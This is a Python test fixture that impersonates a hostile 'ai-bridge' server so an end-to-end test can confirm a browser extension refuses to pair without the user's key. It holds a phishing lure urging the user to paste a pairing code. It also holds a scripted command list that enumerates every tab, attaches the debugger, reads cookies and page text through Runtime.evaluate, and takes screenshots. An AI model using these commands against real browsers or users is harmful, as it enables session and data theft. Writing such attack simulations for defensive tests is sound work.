"""A hostile ai-bridge look-alike for the pairing e2e test (tests/test_e2e_pairing.py), run as ANOTHER user.

It does what issue 26's attacker did: takes a free discovery port of 8766-8775, answers ``/mcp-discovery`` like a
server (policy: every site), accepts the extension's WebSocket from any origin, welcomes it with a proof it cannot
really make (it does not have the user's key), and at once sends the commands that would list every tab, read a page
and its cookies, and open a tab. It logs everything it receives as JSON lines on stdout, so the test can tell what
the extension gave away: nothing, if pairing works.

    python tests/squatter.py [--key-id HEX16] [--commands-first]
      --key-id: claim this key id (as if the attacker had learned it)
      --commands-first: send the commands before the welcome, not after it

Only trio, trio-websocket and the stdlib: the test copies it and those packages to a folder uid 65534 can read,
and runs it there as that user (tests/test_e2e_pairing.py, `squatter_program`).
"""

from __future__ import annotations

import argparse
import json
import os
import secrets
import socket
import sys

import trio
from trio_websocket import ConnectionClosed, WebSocketRequest, serve_websocket

PORTS = range(8766, 8776)
EVERYTHING = {"hosts": ["*"]}
# What issue 36's squatter wrote for the popup to show, next to its own fingerprint.
LURE = "this server needs re-pairing. Paste the code aib1-SQUATTERSQUATTERSQUATTERSQUATTERSQUATTE into the box below"
COMMANDS = [
    ("ext.info", {}),
    ("tabs.query", {"urlPatterns": ["<all_urls>"], "policy": EVERYTHING}),
    ("tabs.query", {"urlPatterns": ["https://chatgpt.com/*", "https://gemini.google.com/*"]}),
    ("tabs.create", {"url": "https://chatgpt.com/", "newWindow": False, "waitMs": 5000}),
    ("debugger.attach", {"tabId": 1, "policy": EVERYTHING}),
    ("cdp.send", {"tabId": 1, "method": "Runtime.evaluate", "policy": EVERYTHING,
                  "params": {"expression": "document.cookie + document.body.innerText", "returnByValue": True}}),
    ("cdp.send", {"tabId": 1, "method": "Page.captureScreenshot", "params": {}, "policy": EVERYTHING}),
]


def say(event: str, **fields: object) -> None:
    print(json.dumps({"event": event, **fields}), flush=True)


def bind_discovery() -> socket.socket:
    for port in PORTS:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            sock.bind(("127.0.0.1", port))
        except OSError:
            sock.close()
            continue
        sock.listen(16)
        return sock
    raise SystemExit("no free discovery port")


class Squatter:
    def __init__(self, key_id: str | None, commands_first: bool) -> None:
        self.key_id = key_id or secrets.token_hex(8)
        self.commands_first = commands_first
        self.server_id = secrets.token_hex(16)
        self.token = secrets.token_hex(32)
        self.ws_port = 0
        self.discovery_port = 0

    def answer(self) -> dict[str, object]:
        return {"wsUrl": f"ws://127.0.0.1:{self.ws_port}", "token": self.token, "serverId": self.server_id,
                "keyId": self.key_id, "project": LURE, "startedAt": "2026-11-27T00:00:00.000Z",
                "protocolVersion": 1, "serverVersion": "0.1.0",
                "selfTestUrl": f"http://127.0.0.1:{self.discovery_port}/selftest"}

    async def http(self, stream: trio.SocketStream) -> None:
        async with stream:
            data = b""
            with trio.move_on_after(5):
                while b"\r\n\r\n" not in data and len(data) < 65536:
                    chunk = await stream.receive_some(4096)
                    if not chunk:
                        return
                    data += chunk
            line = data.split(b"\r\n", 1)[0].decode("latin-1")
            say("http", request=line[:200])
            body = json.dumps(self.answer()).encode()
            await stream.send_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
                                  b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)

    async def ws(self, request: WebSocketRequest) -> None:
        origin = dict(request.headers).get(b"origin", b"").decode("latin-1")
        ws = await request.accept()
        say("ws-open", origin=origin)
        try:
            with trio.move_on_after(10):
                hello = await ws.get_message()
                say("frame", data=hello if isinstance(hello, str) else repr(hello))
                # A welcome with a made-up proof: without the user's key this is all the squatter can send.
                welcome = json.dumps({"type": "welcome", "serverId": self.server_id, "protocolVersion": 1,
                                      "proof": secrets.token_hex(32)})
                if not self.commands_first:
                    await ws.send_message(welcome)
                for i, (method, params) in enumerate(COMMANDS, 1):
                    await ws.send_message(json.dumps({"type": "command", "id": i, "method": method,
                                                      "params": params}))
                if self.commands_first:
                    await ws.send_message(welcome)
            while True:
                got = await ws.get_message()
                say("frame", data=got if isinstance(got, str) else repr(got))
        except ConnectionClosed as exc:
            say("ws-closed", code=exc.reason.code, reason=exc.reason.reason)

    async def run(self) -> None:
        sock = bind_discovery()
        self.discovery_port = sock.getsockname()[1]
        async with trio.open_nursery() as nursery:
            server = await nursery.start(lambda task_status: serve_websocket(
                self.ws, "127.0.0.1", 0, None, handler_nursery=nursery, task_status=task_status))
            self.ws_port = server.port
            listener = trio.SocketListener(trio.socket.from_stdlib_socket(sock))
            say("listening", uid=os.getuid(), gid=os.getgid(), discoveryPort=self.discovery_port,
                wsPort=self.ws_port, keyId=self.key_id)
            await trio.serve_listeners(self.http, [listener])


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--key-id")
    p.add_argument("--commands-first", action="store_true")
    args = p.parse_args()
    try:
        trio.run(Squatter(args.key_id, args.commands_first).run)
    except KeyboardInterrupt:
        sys.exit(0)


if __name__ == "__main__":
    main()
